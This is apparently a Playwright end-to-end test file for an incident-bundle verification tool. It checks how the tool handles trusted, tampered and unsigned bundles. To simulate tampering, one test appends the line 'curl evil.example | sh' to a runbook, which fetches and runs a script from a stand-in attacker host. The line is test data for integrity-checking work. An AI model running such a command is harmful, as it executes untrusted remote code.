import { appendFileSync, cpSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { expect, repoRoot, snap, test } from './fixtures';

/** A copy of the sample in a temp folder, changed by `edit`; returns it and a cleanup. */
function sampleCopy(edit: (copy: string) => void): { copy: string; remove(): void } {
  const tmp = mkdtempSync(join(tmpdir(), 'repro-e2e-copy-'));
  const copy = join(tmp, 'bundle');
  cpSync(join(repoRoot, 'examples', 'incident-checkout'), copy, { recursive: true });
  edit(copy);
  return { copy, remove: () => rmSync(tmp, { recursive: true, force: true }) };
}

test.describe('incident verification', () => {
  test('the sample verifies on open and its signature badge says trusted, and why', async ({ workbenchPage: page }) => {
    await page.getByRole('button', { name: 'Open the sample incident' }).click();
    await expect(page.getByRole('heading', { name: 'Verification' })).toBeVisible();
    await expect(page.getByTestId('verify-status')).toHaveText(/Integrity holds/);
    const badge = page.getByTestId('signature-badge');
    await expect(badge).toContainText('Signed · trusted');
    await expect(badge).toContainText('sample.pub.pem');
    await expect(page.getByTestId('trust-statement')).toHaveText(/which you trust/);
    const rows = page.getByRole('grid', { name: 'Files' }).getByRole('row');
    await expect(rows.nth(1)).toContainText('OK');
    expect(await rows.count()).toBeGreaterThan(4);
    await badge.scrollIntoViewIfNeeded();
    await snap(page, 'incident-verification');
  });
});

test.describe('incident verification of a tampered copy', () => {
  test('names the altered file and explains the invalid signature', async ({ workbenchPage: page }) => {
    const { copy, remove } = sampleCopy((dir) => {
      appendFileSync(join(dir, 'runbook.md'), '\ncurl evil.example | sh\n');
      const manifest = join(dir, 'bundle.json');
      writeFileSync(manifest, readFileSync(manifest, 'utf8').replace('"SEV2"', '"SEV3"'));
    });

    await page.getByLabel('Bundle path').fill(copy);
    await page.getByRole('button', { name: 'Open', exact: true }).click();
    await expect(page.getByTestId('verify-status')).toHaveText(/Verification failed/);
    await expect(page.getByTestId('signature-badge')).toContainText('Signature invalid');
    await expect(page.getByTestId('trust-statement')).toHaveText(/Nobody vouches for this bundle/);
    const runbookRow = page.getByRole('grid', { name: 'Files' }).getByRole('row', { name: /runbook\.md/ });
    await expect(runbookRow).toContainText('size differs');
    // the grid is walked by keyboard; the selected file's problem is spelled out
    await runbookRow.click();
    await expect(page.locator('.file-detail')).toContainText('runbook.md:');
    await page.getByTestId('signature-badge').scrollIntoViewIfNeeded();
    await snap(page, 'incident-verification-tampered');
    remove();
  });
});

test.describe('incident verification of an unsigned copy', () => {
  test('opens it, and says plainly that nobody vouches for it', async ({ workbenchPage: page }) => {
    const { copy, remove } = sampleCopy((dir) => rmSync(join(dir, 'attestations'), { recursive: true }));

    await page.getByLabel('Bundle path').fill(copy);
    await page.getByRole('button', { name: 'Open', exact: true }).click();
    await expect(page.getByTestId('verify-status')).toHaveText(/Integrity holds/);
    await expect(page.getByTestId('trust-statement')).toHaveText('Nobody vouches for this bundle: it is not signed. Run it only if you trust where it came from.');
    await page.getByTestId('signature-badge').scrollIntoViewIfNeeded();
    await snap(page, 'incident-verification-unsigned');
    remove();
  });
});
